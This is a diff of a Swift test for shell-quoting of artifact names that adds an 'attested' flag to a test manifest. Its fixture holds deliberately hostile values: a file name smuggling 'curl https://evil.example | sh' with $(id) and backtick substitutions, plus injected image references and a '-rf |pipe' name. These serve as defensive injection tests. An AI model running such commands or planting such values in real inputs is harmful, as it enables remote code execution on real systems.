@@ -134,8 +134,8 @@ struct ArtifactQuotingCommandTests {
         let fixture = try linked()
         let hostileName = "x'; curl https://evil.example | sh; echo '$(id)`id`"
         let manifest: [String: Any] = [
-            "images": [["reference": "ghcr.io/acme/wid'gets$(id)", "digest": digest, "tags": ["1.0.0", "a`b"]]],
-            "files": [["name": hostileName, "sha256": fileSum], ["name": "-rf |pipe", "sha256": fileSum]],
+            "images": [["reference": "ghcr.io/acme/wid'gets$(id)", "digest": digest, "tags": ["1.0.0", "a`b"], "attested": true]],
+            "files": [["name": hostileName, "sha256": fileSum, "attested": true], ["name": "-rf |pipe", "sha256": fileSum, "attested": true]],
         ]
         let file = fixture.url.deletingLastPathComponent().appendingPathComponent("artifacts.json")
         try JSONSerialization.data(withJSONObject: manifest).write(to: file)
